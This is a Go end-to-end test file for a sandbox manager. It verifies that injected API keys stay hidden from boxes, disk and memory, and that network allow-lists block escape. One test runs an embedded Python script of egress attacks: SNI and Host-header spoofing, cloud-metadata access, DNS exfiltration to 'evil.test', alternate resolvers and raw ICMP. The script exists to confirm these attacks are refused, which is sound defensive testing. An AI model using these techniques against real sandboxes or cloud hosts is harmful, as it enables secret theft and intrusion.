package e2e

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"iter"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/boxlite-mcp/boxlite-mcp/internal/testcert"
)

const apiName, otherName = "api.good.test", "other.good.test"

// An apiServer is an HTTPS host that answers with what it was sent, keys
// included.
type apiServer struct {
	addr string
	mu   sync.Mutex
	keys []string // guarded by mu; that it was sent
}

func (a *apiServer) last() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	if len(a.keys) == 0 {
		return ""
	}
	return a.keys[len(a.keys)-1]
}

// newAPI serves the names and writes the operator's configuration for it.
func newAPI(w *world) *apiServer {
	w.t.Helper()
	cert, authority, err := testcert.New(apiName, otherName)
	if err != nil {
		w.t.Fatal(err)
	}
	a := &apiServer{}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.keys = append(a.keys, r.Header.Get("X-Key"))
		a.mu.Unlock()
		fmt.Fprintf(rw, "%s sent %s", r.Host, r.Header.Get("X-Key"))
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	srv.StartTLS()
	w.t.Cleanup(srv.Close)
	a.addr = srv.Listener.Addr().String()
	ca := filepath.Join(tempDir(w.t), "ca.pem")
	config := fmt.Sprintf("[network]\nstatic = [\"%s=%s\", \"%s=%s\"]\nca_file = %q\n", apiName, a.addr, otherName, a.addr, ca)
	err = os.WriteFile(ca, authority, 0o600)
	if err == nil {
		err = os.MkdirAll(w.home, 0o700)
	}
	if err == nil {
		err = os.WriteFile(filepath.Join(w.home, "config.toml"), []byte(config), 0o600)
	}
	if err != nil {
		w.t.Fatal(err)
	}
	return a
}

// setSecret keeps a secret, as the operator does.
func (w *world) setSecret(name, value string, hosts ...string) {
	w.t.Helper()
	argv := []string{"secret", "set", name}
	for _, h := range hosts {
		argv = append(argv, "--host", h)
	}
	cmd := w.command(argv...)
	cmd.Stdin = strings.NewReader(value + "\n")
	if out, err := cmd.CombinedOutput(); err != nil {
		w.t.Fatalf("%v: %v: %s", argv, err, out)
	}
}

const ask = `python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request("https://` + apiName + `/", headers={"X-Key": os.environ["BOXLITE_SECRET_KEY"]}), timeout=10).read().decode())'`

// A box uses a key, and the key is nowhere that the box, an agent or a thief of
// the disk could find it: through rotation, a killed daemon, and another start.
func TestASecretIsNowhereButOnItsWay(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	api := newAPI(w)
	const mark, first, second = "kEyMaRk7", "sk-kEyMaRk7-one-0123456789", "sk-kEyMaRk7-two-9876543210"
	w.setSecret("key", first, apiName)
	image := w.debian() // before the front end, which is told its registry
	f := w.front()
	box := f.create("keys", args{"image": image, "memory_mib": 256, "allow_net": []string{apiName + ":443"}, "secrets": []string{"key"}}).BoxID
	const placeholder = "<BOXLITE_SECRET:key>"
	use := func(want string) {
		t.Helper()
		e := f.sh(box, ask)
		if got := e.Stdout.Text; e.code() != 0 || got != apiName+" sent "+placeholder+"\n" {
			t.Fatalf("%q, exit %d, %s", got, e.code(), e.Stderr.Text)
		}
		if got := api.last(); got != want {
			t.Errorf("the host got %q, want %q", got, want)
		}
	}
	use(first)
	w.setSecret("key", second, apiName) // the box runs
	use(second)
	w.searchFor(mark, box)
	if e := f.sh(box, `m="kEyMa""Rk7"; grep -rIl "$m" / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; cat /proc/*/environ | tr "\0" "\n" | grep "$m"; echo searched`); e.Stdout.Text != "searched\n" {
		t.Errorf("in the box: %s", e.Stdout.Text)
	}

	for _, p := range w.processes() {
		if p.role == "daemon" {
			if err := p.id.Kill(5 * time.Second); err != nil {
				t.Fatal(err)
			}
		}
	}
	use(second) // its shim went on
	f.must("box_stop", args{"box": box}, nil)
	use(second)
	w.searchFor(mark, box)
}

// A client's configuration gives its boxes a key of its environment, which other
// clients' boxes cannot use.
func TestASecretOfTheClientsEnvironment(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	api := newAPI(w)
	image := w.debian() // before the front ends, which are told its registry
	const value = "sk-of-the-environment-1"
	cmd := w.command("serve", "--principal", "owner", "--secret", "KEY@"+apiName)
	cmd.Env = append(cmd.Env, "KEY="+value)
	f, err := w.tryFront(cmd)
	if err != nil {
		t.Fatal(err)
	}
	box := f.create("keys", args{"image": image, "memory_mib": 256, "allow_net": []string{apiName}, "secrets": []string{"KEY"}}).BoxID
	if e := f.sh(box, ask); e.Stdout.Text != apiName+" sent <BOXLITE_SECRET:KEY>\n" || api.last() != value {
		t.Errorf("%q, %s; the host got %q", e.Stdout.Text, e.Stderr.Text, api.last())
	}
	other := w.frontOf("other")
	err = other.call(t.Context(), "box_create", args{"image": image, "allow_net": []string{apiName}, "secrets": []string{"KEY"}}, nil)
	if err == nil {
		t.Fatal("another principal's box may use the key")
	}
	actionable(t, err)
	// The same without the variable says what to do.
	if out, err := w.cli("serve", "--secret", "NOT_SET@"+apiName); err == nil || !strings.Contains(err.Error()+out, "NOT_SET") {
		t.Errorf("%v: %s", err, out)
	}
	w.searchFor(value, box)
}

// searchFor fails the test if text is in a file of the home, in arguments or the
// environment of a process, or in the memory of the box's machine.
func (w *world) searchFor(text, box string) {
	w.t.Helper()
	files := 0
	err := filepath.WalkDir(w.home, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil //nolint:nilerr // files come and go
		}
		data, err := os.ReadFile(path)
		if files++; err == nil && bytes.Contains(data, []byte(text)) {
			w.t.Errorf("%q is in %s", text, path)
		}
		return nil
	})
	if err != nil || files < 5 {
		w.t.Errorf("searched %d files: %v", files, err)
	}
	machines := 0
	for _, p := range w.processes() {
		for _, name := range []string{"cmdline", "environ"} {
			if p.role == "client" && name == "environ" {
				continue // where a client's configuration may have put it
			}
			if data, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", p.id.PID, name)); err == nil && bytes.Contains(data, []byte(text)) {
				w.t.Errorf("%q is in %s of %v", text, name, p.args)
			}
		}
		if p.role == "shim" && p.box == box && searchMemory(w.t, p.id.PID, text) == 0 {
			w.t.Error("the shim, which sends it, does not have it, so the search finds nothing")
		}
		if p.role == "sandbox" && p.box == box {
			machines++
			if n := searchMemory(w.t, p.id.PID, text); n != 0 {
				w.t.Errorf("%q is %d times in the machine's memory", text, n)
			}
		}
	}
	if machines == 0 {
		w.t.Error("no machine was searched")
	}
}

// searchMemory returns how often text is in a process's memory: in the pages of
// its own that are there, and in its memory files, of which the guest's memory is
// one. Nothing is touched that is not there: it would count against the box.
func searchMemory(t testing.TB, pid int, text string) (n int) {
	t.Helper()
	proc := fmt.Sprintf("/proc/%d/", pid)
	maps, err := os.ReadFile(proc + "maps")
	if err != nil {
		t.Fatal(err)
	}
	mem, err := os.Open(proc + "mem")
	if err != nil {
		t.Fatal(err)
	}
	defer mem.Close()
	pages, err := os.Open(proc + "pagemap")
	if err != nil {
		t.Fatal(err)
	}
	defer pages.Close()
	var read int64
	for line := range strings.Lines(string(maps)) {
		span, rest, _ := strings.Cut(line, " ")
		from, to, _ := strings.Cut(span, "-")
		start, err1 := strconv.ParseInt(from, 16, 64)
		end, err2 := strconv.ParseInt(to, 16, 64)
		if !strings.HasPrefix(rest, "r") || err1 != nil || err2 != nil {
			continue
		}
		for at, size := range present(pages, start, end) {
			n += countIn(io.NewSectionReader(mem, at, size), text)
			read += size
		}
	}
	fds, _ := filepath.Glob(proc + "fd/*")
	for _, fd := range fds {
		if name, err := os.Readlink(fd); err != nil || !strings.HasPrefix(name, "/memfd:") {
			continue
		}
		f, err := os.Open(fd)
		if err != nil {
			continue
		}
		n += countIn(f, text) // holes read as zeros
		f.Close()
	}
	if read < 1<<20 {
		t.Errorf("only %d bytes of memory could be read", read)
	}
	return n
}

// present returns the parts of a mapping that have pages: where each begins, and
// its size.
func present(pages *os.File, start, end int64) iter.Seq2[int64, int64] {
	const page, entry, there = 4096, 8, 1 << 63
	return func(yield func(int64, int64) bool) {
		buf := make([]byte, 512*entry)
		for at := start; at < end; {
			k, err := pages.ReadAt(buf[:min(int64(len(buf)), (end-at)/page*entry)], at/page*entry)
			for i := 0; i+entry <= k; i += entry {
				if binary.LittleEndian.Uint64(buf[i:])&there != 0 && !yield(at, page) {
					return
				}
				at += page
			}
			if k < entry || err != nil && err != io.EOF {
				return
			}
		}
	}
}

// countIn returns how often text is in what r has.
func countIn(r io.Reader, text string) (n int) {
	block := make([]byte, 64<<10)
	var tail []byte
	for {
		k, err := io.ReadFull(r, block)
		data := append(tail, block[:k]...)
		n += bytes.Count(data, []byte(text))
		tail = append([]byte(nil), data[max(0, len(data)-len(text)+1):]...)
		if err != nil {
			return n
		}
	}
}

// What an agent narrows is in force at once, and is not widened again.
func TestNarrowingEndsConnections(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	newAPI(w)
	image := w.debian() // before the front end, which is told its registry
	f := w.front()
	box := f.create("net", args{"image": image, "memory_mib": 256, "allow_net": []string{apiName + ":443", otherName + ":443"}}).BoxID
	const hold = `import socket, sys
s = socket.create_connection(("` + apiName + `", 443), 10)
print("connected", flush=True)
try:
    print("read", s.recv(1))
except OSError as e:
    print("ended", e)
`
	f.must("file_write", args{"box": box, "path": "/hold.py", "content": hold}, nil)
	id := f.background(box, "python3 /hold.py")
	if !eventually(10*time.Second, func() bool { out, _ := f.read(id, 0); return string(out) == "connected\n" }) {
		t.Fatal("the box did not connect")
	}
	began := time.Now()
	f.must("box_update", args{"box": box, "allow_net": []string{otherName + ":443"}}, nil)
	if !eventually(5*time.Second, func() bool {
		out, _ := f.read(id, 0)
		return strings.Contains(string(out), "ended") || strings.Contains(string(out), "read b''")
	}) {
		t.Error("the connection goes on")
	}
	if d := time.Since(began); d > 2*time.Second { // a second, and the reading
		t.Errorf("it ended after %v", d)
	}
	if e := f.sh(box, "python3 /hold.py"); e.code() == 0 {
		t.Error("the box connects again")
	}
	for _, wider := range [][]string{{apiName + ":443"}, {"*"}, {otherName}} {
		err := f.call(t.Context(), "box_update", args{"box": box, "allow_net": wider}, nil)
		if err == nil {
			t.Errorf("widened to %v", wider)
			continue
		}
		actionable(t, err)
	}
	// It stays so in the next start.
	f.must("box_stop", args{"box": box}, nil)
	if e := f.sh(box, "python3 /hold.py"); e.code() == 0 || len(e.Denied) == 0 || e.Denied[0].Code != "no_rule" {
		t.Errorf("after another start: exit %d, %+v", e.code(), e.Denied)
	}
}

// Attacks that a real box can make. Each prints what came of it; none may say
// "reached".
func TestAttacksFromABox(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	api := newAPI(w)
	w.setSecret("key", "sk-REAL-value-0123456789", apiName)
	image := w.debian() // before the front end, which is told its registry
	f := w.front()
	box := f.create("attacker", args{"image": image, "memory_mib": 256, "allow_net": []string{apiName + ":443"}, "secrets": []string{"key"}}).BoxID
	_, port, _ := strings.Cut(api.addr, ":")
	script := strings.NewReplacer("API", apiName, "OTHER", otherName, "PORT", port).Replace(`
import json, os, socket, ssl, struct
ctx = ssl.create_default_context(); loose = ssl._create_unverified_context()
key = os.environ["BOXLITE_SECRET_KEY"]
good = socket.gethostbyname("API")
def tcp(host, port):
    s = socket.create_connection((host, port), 5); s.settimeout(5); return s
def https(host, sni, head):
    s = loose.wrap_socket(tcp(host, 443), server_hostname=sni); s.sendall(head.encode()); return s.recv(4000).decode("latin1")
def refused(text):
    if not text.startswith(("HTTP/1.1 4", "HTTP/1.1 5")): raise SystemError("reached: " + text[:100])
    return "refused"
def udp(host, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(data, (host, port)); s.recv(4000)
def dns(name, kind, server="198.19.255.1"):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + q + struct.pack(">HH", kind, 1), (server, 53))
    a = s.recv(4000)
    if a[3] & 15 == 0 and struct.unpack(">H", a[6:8])[0]: raise SystemError("reached: an answer")
    raise OSError("code %d" % (a[3] & 15))
attacks = {
  "A1 an address and a good SNI": lambda: https("93.184.215.14", "API", "GET / HTTP/1.1\r\nHost: API\r\n\r\n"),
  "A1 another SNI": lambda: https(good, "OTHER", "GET / HTTP/1.1\r\nHost: OTHER\r\n\r\n"),
  "A2 another Host": lambda: refused(https(good, "API", "GET / HTTP/1.1\r\nHost: OTHER\r\nX-Key: %s\r\n\r\n" % key)),
  "A7 absolute form": lambda: refused(https(good, "API", "GET http://OTHER/ HTTP/1.1\r\nHost: API\r\n\r\n")),
  "A8 two Hosts": lambda: refused(https(good, "API", "GET / HTTP/1.1\r\nHost: API\r\nHost: OTHER\r\n\r\n")),
  "A19 another port": lambda: tcp(good, 8443),
  "A23 another name": lambda: tcp("OTHER", 443),
  "B5 metadata": lambda: tcp("169.254.169.254", 80),
  "B7 the gateway": lambda: tcp("198.19.255.1", 443),
  "B9 the host's port at the gateway": lambda: tcp("198.19.255.1", PORT),
  "B9 the host's port at loopback": lambda: tcp("127.0.0.1", PORT),
  "B10 IPv6": lambda: socket.create_connection(("2606:4700:4700::1111", 443), 3),
  "B12 multicast": lambda: udp("224.0.0.251", 5353, b"x"),
  "C1 TXT": lambda: dns("data.evil.test", 16),
  "C2 a name below": lambda: dns("data.API", 1),
  "C3 another resolver": lambda: dns("API", 1, "8.8.8.8"),
  "C3 DNS over TLS": lambda: tcp("1.1.1.1", 853),
  "C10 QUIC": lambda: udp(good, 443, b"\xc0" + b"0" * 1200),
  "C14 NTP": lambda: udp("162.159.200.1", 123, b"\x1b" + b"\0" * 47),
  "C11 raw ICMP": lambda: (lambda s: (s.settimeout(1), s.sendto(b"\x08\x00\xf7\xff\0\0\0\0", ("93.184.215.14", 0)), s.recv(100)))(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
}
for name, attack in attacks.items():
    try:
        print(name, "-> refused") if attack() == "refused" else print("reached:", name)
    except SystemError as e:
        print(name, e)
    except Exception as e:
        print(name, "->", type(e).__name__)
`)
	f.must("file_write", args{"box": box, "path": "/attack.py", "content": script}, nil)
	e := f.sh(box, "python3 /attack.py")
	if e.code() != 0 || strings.Count(e.Stdout.Text, "\n") != 20 || strings.Contains(e.Stdout.Text, "reached") {
		t.Errorf("exit %d\n%s\n%s", e.code(), e.Stdout.Text, e.Stderr.Text)
	}
	if got := api.last(); got != "" {
		t.Errorf("the host was sent %q", got)
	}
	var log struct {
		Events []struct {
			Code    string `json:"code"`
			Allowed bool   `json:"allowed"`
		} `json:"events"`
	}
	f.must("network_log", args{"box": box, "denied_only": true, "limit": 500}, &log)
	codes := map[string]bool{}
	for _, e := range log.Events {
		codes[e.Code] = true
	}
	for _, want := range []string{"no_rule", "wrong_port", "metadata", "box_subnet", "wrong_authority", "bad_request", "sni", "protocol", "frame"} {
		if !codes[want] {
			t.Errorf("no record of %s: %v", want, codes)
		}
	}
	// The operator sees the same, as lines of JSON.
	out, err := w.cli("netlog", "--json", "--denied", "-n", "500", box)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if err != nil || len(lines) < len(log.Events) || !json.Valid([]byte(lines[0])) {
		t.Errorf("netlog: %v, %d lines for %d records", err, len(lines), len(log.Events))
	}
}

// A box whose shim is killed has no network, and no frame of it passes.
func TestNoNetworkWithoutAShim(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	newAPI(w)
	image := w.debian() // before the front end, which is told its registry
	f := w.front()
	box := f.create("net", args{"image": image, "memory_mib": 256, "allow_net": []string{apiName + ":443"}}).BoxID
	const flood = `while :; do python3 -c 'import socket; socket.create_connection(("` + apiName + `", 443), 1)' 2>/dev/null && echo connected; done`
	id := f.background(box, flood)
	if !eventually(10*time.Second, func() bool { out, _ := f.read(id, 0); return len(out) > 0 }) {
		t.Fatal("the box did not connect")
	}
	for _, p := range w.processes() {
		if p.role == "shim" && p.box == box {
			if err := syscall.Kill(p.id.PID, syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
		}
	}
	if !eventually(10*time.Second, func() bool { b, ok := f.boxInfo(box); return ok && b.Status == "stopped" }) {
		t.Error("the box goes on without its shim")
	}
	if e := f.sh(box, `python3 -c 'import socket; socket.create_connection(("`+apiName+`", 443), 5)'`); e.code() != 0 {
		t.Errorf("after another start: %s", e.Stderr.Text)
	}
}
